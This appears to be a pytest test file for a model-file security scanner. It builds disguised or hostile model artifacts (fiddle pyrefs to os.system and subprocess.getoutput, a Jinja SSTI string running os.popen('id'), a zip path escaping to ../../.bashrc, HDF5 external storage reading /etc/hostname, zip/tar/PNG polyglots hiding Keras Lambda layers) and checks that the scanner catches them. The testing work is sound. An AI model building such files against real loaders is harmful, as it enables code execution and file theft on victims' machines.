    objects = {
        "names_1": {"type": tup, "items": [["Index(index=0)", "cmd"]], "metadata": None},
        "meta_1": {
            "type": meta,
            "items": [
                ["Attr(name='fn_or_cls')", _pyref(fn_module, fn_name)],
                ["Attr(name='argument_names')", {"type": "ref", "key": "names_1"}],
            ],
            "metadata": meta,
        },
        "call_1": {
            "type": cfg,
            "items": [["Attr(name='cmd')", {"type": "leaf", "value": arg, "paths": ["<root>.x.cmd"]}]],
            "metadata": {"type": "ref", "key": "meta_1"},
            "paths": ["<root>.x"],
        },
        "meta_2": {"type": meta, "items": [["Attr(name='fn_or_cls')", dct]], "metadata": meta},
        "root_1": {
            "type": cfg,
            "items": [["Attr(name='x')", {"type": "ref", "key": "call_1"}]],
            "metadata": {"type": "ref", "key": "meta_2"},
            "paths": ["<root>"],
        },
    }
    doc = {
        "root": {"type": "ref", "key": "root_1"},
        "objects": objects,
        "refcounts": dict.fromkeys(objects, 1),
        "version": "0.0.1",
    }
    return json.dumps(doc).encode()


@pytest.mark.parametrize(
    ("module", "name", "severity"),
    [
        ("subprocess", "getoutput", Severity.CRITICAL),
        ("os", "system", Severity.CRITICAL),
        ("builtins", "exec", Severity.CRITICAL),
        ("shutil", "rmtree", Severity.HIGH),
        ("attacker_pkg.hooks", "run", Severity.MEDIUM),
        ("torch", "load", Severity.HIGH),
    ],
)
def test_fiddle_pyref_called_by_nemo2_load_context(
    tmp_path: Path, module: str, name: str, severity: Severity
) -> None:
    """NeMo 2 checkpoints keep their model in context/io.json, a fiddle serialization: load_json imports every
    pyref (the default policy refuses only builtins' functions) and fdl.build calls each config's fn_or_cls with
    its arguments; built with fiddle 0.3.1, fdl.build(load_json(...)) of the subprocess.getoutput document ran
    `id`. It was clean (JSON without Keras or skops keys)."""
    res = scan_files(tmp_path, {"context/io.json": _fiddle_doc(module, name)})
    assert_caught(res, "LW-MODEL-042", at_least=severity)


def test_fiddle_document_of_ordinary_classes_stays_clean(tmp_path: Path) -> None:
    """What NeMo 2 and fiddle write for a model: fiddle's types, builtins containers, torch and NeMo classes and
    functions."""
    doc = json.loads(_fiddle_doc("nemo.collections.llm.gpt.model.llama", "LlamaModel"))
    doc["objects"]["act_1"] = {"type": "leaf", "value": _pyref("torch.nn.functional", "silu")}
    doc["objects"]["opt_1"] = {
        "type": _pyref("fiddle._src.partial", "Partial"),
        "items": [],
        "metadata": None,
    }
    doc["objects"]["lin_1"] = _pyref("torch.nn.modules.linear", "Linear")
    doc["objects"]["lst_1"] = {"type": _pyref("builtins", "list"), "items": [], "metadata": None}
    res = scan_files(tmp_path, {"io.json": json.dumps(doc).encode()})
    assert res[0].verdict is Verdict.CLEAN, res[0]


# ------------------------------------------------------------------- zip: Unicode Path extra field (0x7075)


def _zip_with_unicode_path(raw_name: str, unicode_name: str, data: bytes, *, good_crc: bool = True) -> bytes:
    """A stored member whose central directory entry carries an Info-ZIP Unicode Path field naming it
    ``unicode_name`` (zipfile 3.12+ takes that name when the field's CRC matches the raw name)."""
    import zlib

    raw = raw_name.encode()
    crc = zlib.crc32(raw) if good_crc else zlib.crc32(raw) ^ 1
    body = struct.pack("<BI", 1, crc) + unicode_name.encode()
    extra = struct.pack("<HH", 0x7075, len(body)) + body
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo(raw_name)
        info.extra = extra
        z.writestr(info, data)
    return buf.getvalue()


@pytest.mark.parametrize("name", ["chat_template.jinja", "config.yaml", "config.json"])
def test_zip_unicode_path_field_renames_a_member(tmp_path: Path, name: str) -> None:
    """zipfile (3.12+) names a member by its 0x7075 field when the field's CRC matches the raw name, so an
    archive extracted with Python gives a member called a.txt the loader's name: judged under both."""
    data, rule = _NAMED_PAYLOADS[name]
    res = scan_files(tmp_path, {"model.zip": _zip_with_unicode_path("a.txt", name, data)})
    assert_caught(res, rule, at_least=Severity.MEDIUM)


def test_zip_unicode_path_field_escape_and_benign(tmp_path: Path) -> None:
    """A traversal in the field is reported like one in the name; a field whose CRC does not match the raw name
    (zipfile ignores it) and one that repeats the name change nothing."""
    res = scan_files(tmp_path, {"esc.zip": _zip_with_unicode_path("a.txt", "../../.bashrc", b"echo hi\n")})
    assert_caught(res, "LW-MODEL-027")
    data, _ = _NAMED_PAYLOADS["config.yaml"]
    stale = _zip_with_unicode_path("a.txt", "config.yaml", data, good_crc=False)
    same = _zip_with_unicode_path("notes/caf\u00e9.txt", "notes/caf\u00e9.txt", b"hello\n")
    for name, blob in (("stale.zip", stale), ("same.zip", same)):
        res = scan_files(tmp_path, {name: blob})
        assert res[0].verdict is Verdict.CLEAN, res[0]


def test_archives_whose_hdf5_member_starts_at_a_power_of_two_stay_clean(tmp_path: Path) -> None:
    """A tar's first member's data starts at offset 512, and a stored zip member can start at 1024: an HDF5
    member there is what h5py would also find, and it is analysed as the member it is; no disguise."""
    benign = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
    h5 = _hdf5(benign, 0, tmp_path)
    tar = _tar({"model.h5": h5})
    name = "model.weights.h5"
    meta = b"{" + b" " * (1024 - 60 - len("metadata.json") - len(name) - 2) + b"}"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("metadata.json", meta)
        z.writestr(name, h5)
    zdata = buf.getvalue()
    assert tar[512:520] == zdata[1024:1032] == b"\x89HDF\r\n\x1a\n"
    res = scan_files(tmp_path, {"model.tar": tar, "model.keras": zdata})
    assert all(r.verdict is Verdict.CLEAN for r in res), res
    lam = _hdf5(cp.keras_lambda_config(), 0, tmp_path)
    res = scan_files(tmp_path, {"lambda.tar": _tar({"model.h5": lam})})
    assert_caught(res, "LW-MODEL-032")
    assert "LW-MODEL-029" not in {f.rule_id for f in res[0].findings}


def test_hdf5_in_a_gap_of_a_zip(tmp_path: Path) -> None:
    """A zip whose bytes at offset 1024 are an HDF5 file no member explains: h5py opens the file as that HDF5."""
    h5 = _hdf5(cp.keras_lambda_config(), 0, tmp_path)
    first = cp.zip_of({"a.txt": b"x"}, method=zipfile.ZIP_STORED)
    local_end = first.index(b"PK\x01\x02")
    body = first[:local_end]
    body += b"\0" * (1024 - len(body)) + h5
    buf = io.BytesIO(body)
    buf.seek(0, 2)
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("b.txt", b"y")
    res = scan_files(tmp_path, {"model.h5": buf.getvalue()})
    assert_caught(res, "LW-MODEL-032")


# ------------------------------------------------------------------ chat templates that are also protobuf models


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b, n = n & 0x7F, n >> 7
        if not n:
            return out + bytes([b])
        out += bytes([b | 0x80])


def _ld(field: int, payload: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


_SSTI = b"{{ cycler.__init__.__globals__.os.popen('id').read() }}"
_CHAT = b"{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"


def _as_protobuf(kind: str, text: bytes) -> bytes:
    """A valid message of ``kind`` whose string field holds ``text``: to Jinja its control bytes are text."""
    if kind == "onnx":  # ModelProto: ir_version, producer_name, producer_version
        return _varint(1 << 3) + _varint(8) + _ld(2, text) + _ld(3, b"1.0")
    if kind == "tf-graph":  # GraphDef{node: NodeDef{name, op: NoOp}}
        return _ld(1, _ld(1, text) + _ld(2, b"NoOp"))
    if kind == "tf-savedmodel":  # SavedModel{schema 1, MetaGraphDef{graph_def{node}}}
        return _varint(1 << 3) + _varint(1) + _ld(2, _ld(2, _ld(1, _ld(1, text) + _ld(2, b"NoOp"))))
    raise ValueError(kind)


@pytest.mark.parametrize("kind", ["onnx", "tf-graph", "tf-savedmodel"])
@pytest.mark.parametrize("name", ["chat_template.jinja", "templates/tool_use.j2", "CHAT_TEMPLATE.JINJA"])
def test_template_file_that_is_also_a_protobuf_model_is_analysed_as_a_template(
    tmp_path: Path, kind: str, name: str
) -> None:
    """transformers reads ``chat_template.jinja`` as text whatever its bytes, and Jinja takes control characters
    as template text, so a file that is a valid ONNX or TensorFlow protobuf (clean to its own parser) is
    rendered as the template its strings spell. It used to be analysed only as the model it also is."""
    data = _as_protobuf(kind, _SSTI)
    res = scan_files(tmp_path, {name: data})
    assert_caught(res, "LW-MODEL-040", at_least=Severity.CRITICAL)


@pytest.mark.parametrize("kind", ["onnx", "tf-graph", "tf-savedmodel"])
def test_template_named_protobuf_with_an_ordinary_template_stays_clean(tmp_path: Path, kind: str) -> None:
    res = scan_files(tmp_path, {"chat_template.jinja": _as_protobuf(kind, _CHAT)})
    assert res[0].verdict is Verdict.CLEAN, res[0]


def test_protobuf_named_as_a_model_is_not_read_as_a_template(tmp_path: Path) -> None:
    # the same bytes under a model's name: no template loader reads them
    res = scan_files(tmp_path, {"model.onnx": _as_protobuf("onnx", _SSTI)})
    assert "LW-MODEL-040" not in {f.rule_id for f in res[0].findings}


# ------------------------------------------- archive members read as whole files once extracted (round 4)

_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
_README = b"# Model card\n\nWeights for the demo model.\n" * 120  # text well past the 4 KiB sniffing window


def _h5_external(tmp_path: Path, userblock: int, pad: int = 0) -> bytes:
    """HDF5 Keras weights whose dataset reads /etc/hostname (external raw storage), built with a user block."""
    h5py = pytest.importorskip("h5py")
    import numpy as np

    path = tmp_path / "built_ext.h5"
    with h5py.File(path, "w", userblock_size=userblock) as f:
        g = _keras_h5_weights(f)
        g.create_dataset("kernel", shape=(16,), dtype="u1", external=[("/etc/hostname", 0, 16)])
        if pad:
            g.create_dataset("bias", data=np.zeros(pad, dtype="u1"))
    data = path.read_bytes()
    path.unlink()
    return data


@pytest.mark.parametrize("head", [_PNG, _README], ids=["png", "text"])
@pytest.mark.parametrize("mode", ["w:", "w:gz"])
def test_tar_member_that_is_also_a_zip(tmp_path: Path, head: bytes, mode: str) -> None:
    """A .nemo or tar.gz is unpacked before its files are loaded: an extracted ``model.keras`` that opens as a PNG
    or text but ends with a zip is opened by Keras' loader (``zipfile`` finds the end record), which builds the
    Lambda. The same bytes as a file were caught; as a tar member they were clean (the search for a zip behind
    other content ran on files only)."""
    data = cp.tar_of({"model.keras": head + cp.keras_zip(cp.keras_lambda_config())}, mode=mode)
    res = scan_files(tmp_path, {"model.tar": data})
    assert_caught(res, "LW-MODEL-032")
    assert "LW-MODEL-024" in {f.rule_id for f in res[0].findings}


@pytest.mark.parametrize("outer", ["zip", "gzip"])
def test_zip_behind_other_content_in_a_zip_or_gzip(tmp_path: Path, outer: str) -> None:
    """The same polyglot as a member of a zip (a zipped model folder) or gunzipped from ``model.keras.gz``."""
    poly = _PNG + cp.keras_zip(cp.keras_lambda_config())
    data = cp.zip_of({"model.keras": poly}) if outer == "zip" else cp.compress("gzip", poly)
    res = scan_files(tmp_path, {f"model.{outer}": data})
    assert_caught(res, "LW-MODEL-032")


@pytest.mark.parametrize("at", [512, 2048])
def test_tar_member_with_an_hdf5_after_another_head(tmp_path: Path, at: int) -> None:
    """An extracted ``model.h5`` whose first bytes are a PNG's and whose HDF5 superblock sits at a power of two:
    Keras' .h5 loader (h5py) opens it and builds the Lambda of its model_config."""
    data = _carrier("png", _hdf5(cp.keras_lambda_config(), at, tmp_path), at)
    res = scan_files(tmp_path, {"model.tar.gz": cp.tar_of({"model.h5": data})})
    assert_caught(res, "LW-MODEL-032")


@pytest.mark.parametrize("pad", [0, 1_500_000], ids=["small", "large-deflated"])
def test_keras_weights_member_with_an_hdf5_after_another_head(tmp_path: Path, pad: int) -> None:
    """Keras extracts a .keras archive's ``model.weights.h5`` and opens it with h5py, which finds a superblock at
    512 behind a PNG head: its external storage reads /etc/hostname into the weights. A large deflated member
    (not seekable in place) is spooled because h5py opens it by that name."""
    weights = _carrier("png", _h5_external(tmp_path, 512, pad), 512)
    archive = cp.zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01"}).encode(),
            "config.json": json.dumps(
                {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
            ).encode(),
            "model.weights.h5": weights,
        }
    )
    res = scan_files(tmp_path, {"model.keras": archive})
    assert_caught(res, "LW-MODEL-045")


def test_ordinary_archived_files_stay_clean(tmp_path: Path) -> None:
    """Archived images, text, a .keras archive, HDF5 weights (plain and with a blank user block), NumPy arrays and
    pickles: nothing is behind anything."""
    h5py = pytest.importorskip("h5py")
    import numpy as np

    path = tmp_path / "w.h5"
    with h5py.File(path, "w", userblock_size=512) as f:
        _keras_h5_weights(f).create_dataset("kernel", data=np.ones((64, 64), dtype="f4"))
    h5 = path.read_bytes()
    path.unlink()
    buf = io.BytesIO()
    np.save(buf, np.arange(300_000, dtype="f8"))  # 2.4 MB: streamed, not held in memory
    keras = cp.zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01"}).encode(),
            "config.json": json.dumps(
                {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
            ).encode(),
            "model.weights.h5": h5,
        }
    )
    files = {
        "card.png": _PNG + bytes(range(256)) * 8,
        "README.md": _README,
        "model.keras": keras,
        "weights.h5": h5,
        "big.npy": buf.getvalue(),
        "model.pkl": cp.benign_pickle(),
    }
    for name, data in {
        "model.tar": cp.tar_of(files, mode="w:"),
        "model.tar.gz": cp.tar_of(files),
        "model.zip": cp.zip_of(files),
        "stored.zip": cp.zip_of(files, method=zipfile.ZIP_STORED),
        "model.keras": keras,
    }.items():
        res = scan_files(tmp_path, {name: data})
        assert res[0].verdict is Verdict.CLEAN, (name, res[0])


# -------------------------------- raw data a model names is resolved as data only when nothing was found in it


def _raw_with_a_reading(kind: str, tmp_path: Path) -> bytes:
    """Bytes of no model format that another loader reads as something: opcodes a pickle loader runs from byte 0
    (0x88 NEWTRUE and POP first: no pickle magic, so the file is no pickle to the sniffer), a zip at the end, an
    HDF5 file behind a non-blank user block."""
    noise = bytes([0xDE, 0xAD, 0xBE, 0xEF]) * 200
    if kind == "pickle-prefix":
        return b"\x880" + cp.evil_pickle(0) + noise
    if kind == "zip-tail":
        return noise + cp.keras_zip(cp.keras_lambda_config())
    if kind == "hdf5-behind":
        h5 = _hdf5(cp.keras_lambda_config(), 512, tmp_path)
        return noise[:512] + h5[512:]
    raise AssertionError(kind)


_READINGS = ["pickle-prefix", "zip-tail", "hdf5-behind"]


def _checkpoint_index() -> bytes:
    """A TensorFlow tensor bundle index of one shard (as tests/unit/checks/models/test_tensorflow.py builds it):
    a data block with the header entry, index and metaindex blocks, each with its trailer, and the footer."""

    def block(*entries: tuple[bytes, bytes]) -> bytes:
        body = b"".join(cp._varint(0) + cp._varint(len(k)) + cp._varint(len(v)) + k + v for k, v in entries)
        return body + struct.pack("<II", 0, 1)

    header = cp._varint(1 << 3) + cp._varint(1)  # BundleHeaderProto{1 num_shards: 1}
    data = block((b"", header))
    out = data + b"\x00" * 5
    index_off = len(out)
    index = block((b"w", cp._varint(0) + cp._varint(len(data))))
    out += index + b"\x00" * 5
    meta_off = len(out)
    meta = block()
    out += meta + b"\x00" * 5
    handles = cp._varint(meta_off) + cp._varint(len(meta)) + cp._varint(index_off) + cp._varint(len(index))
    return out + handles.ljust(40, b"\x00") + (0xDB4775248B80FB57).to_bytes(8, "little")


@pytest.mark.parametrize("kind", _READINGS)
def test_onnx_external_data_file_keeps_its_findings(tmp_path: Path, kind: str) -> None:
    """An ONNX model naming a file as external data made that file "raw data" and its result clean, findings
    dropped: ``torch.load``/``pickle.load`` of ``weights.bin`` runs os.system, Keras opens the zip, h5py the HDF5
    file. A file in which another reading found something stays reported (and unverified)."""
    files = {"model.onnx": cp.onnx_model("weights.bin"), "weights.bin": _raw_with_a_reading(kind, tmp_path)}
    res = scan_files(tmp_path, files)
    weights = next(r for r in res if r.path.endswith("weights.bin"))
    assert weights.verdict is Verdict.UNVERIFIED, weights
    assert weights.max_severity() is Severity.CRITICAL, weights


@pytest.mark.parametrize("kind", _READINGS)
def test_tensorflow_data_shard_keeps_its_findings(tmp_path: Path, kind: str) -> None:
    """The same through a checkpoint index, whose data shards are resolved as raw data."""
    files = {
        "variables/variables.index": _checkpoint_index(),
        "variables/variables.data-00000-of-00001": _raw_with_a_reading(kind, tmp_path),
    }
    res = scan_files(tmp_path, files)
    shard = next(r for r in res if r.path.endswith("00000-of-00001"))
    assert shard.verdict is Verdict.UNVERIFIED, shard
    assert shard.max_severity() is Severity.CRITICAL, shard


def test_raw_external_data_and_shards_stay_clean(tmp_path: Path) -> None:
    noise = bytes([0xDE, 0xAD, 0x00, 0x01]) * 300
    files = {
        "model.onnx": cp.onnx_model("weights.bin"),
        "weights.bin": noise,
        "variables/variables.index": _checkpoint_index(),
        "variables/variables.data-00000-of-00001": noise,
    }
    res = scan_files(tmp_path, files)
    assert {r.verdict for r in res} == {Verdict.CLEAN}, res


# ------------------------------------------------ a zip laid across a tar's own structure (CVE-2026-3219 class)


def _straddling_tar_zip(files: dict[str, bytes], *, end_after_tar: bool = False) -> bytes:
    """A tar of a text member and a PNG member that is also a zip: the zip's members and central directory lie in
    the text member, the last central entry's comment runs over the PNG member's tar header, and the end record
    ends the PNG member (``end_after_tar``: follows the tar's end-of-archive blocks instead). zipfile finds the end
    record in the last 64 KiB and reads the directory before it; tarfile sees two ordinary members."""
    z = bytearray(cp.zip_of(files, method=zipfile.ZIP_STORED))
    eocd = z.rfind(b"PK\x05\x06")
    cd_size = struct.unpack_from("<I", z, eocd + 12)[0]
    last = z.rfind(b"PK\x01\x02", 0, eocd)
    prefix = b"# notes\n" + b"plain text notes line\n" * 250
    prefix += b" " * (-(len(prefix) + eocd) % 512)  # the text member's data ends on a block boundary
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    members = {"README.md": prefix + bytes(z[:eocd]), "figure.png": png}
    end = bytearray(z[eocd : eocd + 22])
    if end_after_tar:
        tar = cp.tar_of(members, mode="w:")
        comment = len(tar) - len(prefix) - eocd - 512  # over the rest of the tar: header, PNG, end blocks
        struct.pack_into("<H", z, last + 32, comment)
        struct.pack_into("<I", end, 12, cd_size + comment)
        members["README.md"] = prefix + bytes(z[:eocd])
        return cp.tar_of(members, mode="w:") + bytes(end)
    comment = 512 + len(png)
    struct.pack_into("<H", z, last + 32, comment)
    struct.pack_into("<I", end, 12, cd_size + comment)
    members = {"README.md": prefix + bytes(z[:eocd]), "figure.png": png + bytes(end)}
    return cp.tar_of(members, mode="w:")


@pytest.mark.parametrize("end_after_tar", [False, True], ids=["end-in-a-member", "end-after-the-tar"])
def test_zip_across_a_tars_members(tmp_path: Path, end_after_tar: bool) -> None:
    """Checked when built: ``tarfile`` lists README.md and figure.png, ``zipfile`` opens the same file and reads
    config.json, so Keras' load_model of the ``.keras`` file builds its Lambda. It was clean (the end record
    inside a member) or only a medium note on bytes after the tar, the zip never analysed."""
    data = _straddling_tar_zip(
        {"metadata.json": b"{}", "config.json": json.dumps(cp.keras_lambda_config()).encode()},
        end_after_tar=end_after_tar,
    )
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "config.json" in z.namelist()
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        assert t.getnames() == ["README.md", "figure.png"]
    res = scan_files(tmp_path, {"model.keras": data})
    assert_caught(res, "LW-MODEL-032")


@pytest.mark.parametrize("where", ["first", "middle", "last"])
def test_tar_holding_a_zip_member_stays_clean(tmp_path: Path, where: str) -> None:
    """A zip that is one member's data (zipfile finds it through the whole tar when it is the last member) is that
    member, analysed as such: no finding."""
    members = [("README.md", b"# card\n"), ("figure.png", b"\x89PNG\r\n\x1a\n" + bytes(64))]
    zipped = ("weights.zip", cp.zip_of({"a.txt": b"hello", "model.pkl": cp.benign_pickle()}))
    members.insert({"first": 0, "middle": 1, "last": 2}[where], zipped)
    for mode in ("w:", "w:gz"):
        res = scan_files(tmp_path, {"model.tar": cp.tar_of(dict(members), mode=mode)})
        assert res[0].verdict is Verdict.CLEAN, (mode, res[0])
